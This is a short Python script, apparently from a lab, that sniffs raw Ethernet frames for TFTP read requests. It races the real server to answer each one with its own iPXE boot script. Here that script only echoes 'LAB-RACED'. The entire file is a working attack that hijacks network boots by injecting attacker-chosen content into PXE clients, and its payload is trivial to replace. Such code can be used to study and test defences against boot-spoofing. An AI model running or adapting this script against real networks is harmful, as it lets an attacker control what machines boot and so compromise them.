"""Answers every TFTP read request that it overhears, from its own address, with a file of its own.

    tftp_race.py --ip IP [--blocks N]
"""
import argparse
import select
import socket
import struct

parser = argparse.ArgumentParser()
parser.add_argument("--ip", required=True)
parser.add_argument("--blocks", type=int, default=60)
args = parser.parse_args()

BLOCK = 512
content = b"#!ipxe\necho LAB-RACED\n".ljust(BLOCK * args.blocks - 100, b"#")

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
wire.bind(("eth0", 0))
wire.setsockopt(263, 23, 1)  # PACKET_IGNORE_OUTGOING
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind((args.ip, 50069))


def block(number):
    return struct.pack("!HH", 3, number) + content[(number - 1) * BLOCK : number * BLOCK]


print("ready", flush=True)
while True:
    for heard in select.select([wire, server], [], [])[0]:
        if heard is server:
            packet, client = server.recvfrom(2000)
            opcode, number = struct.unpack("!HH", packet[:4])
            if opcode == 4 and number < args.blocks:
                server.sendto(block(number + 1), client)
            continue
        frame = wire.recv(2000)
        udp = 14 + (frame[14] & 15) * 4
        source = socket.inet_ntoa(frame[26:30])
        if frame[23] != 17 or source == args.ip:
            continue
        port, destination = struct.unpack("!HH", frame[udp : udp + 4])
        if destination == 69 and frame[udp + 8 : udp + 10] == b"\x00\x01":
            server.sendto(block(1), (source, port))
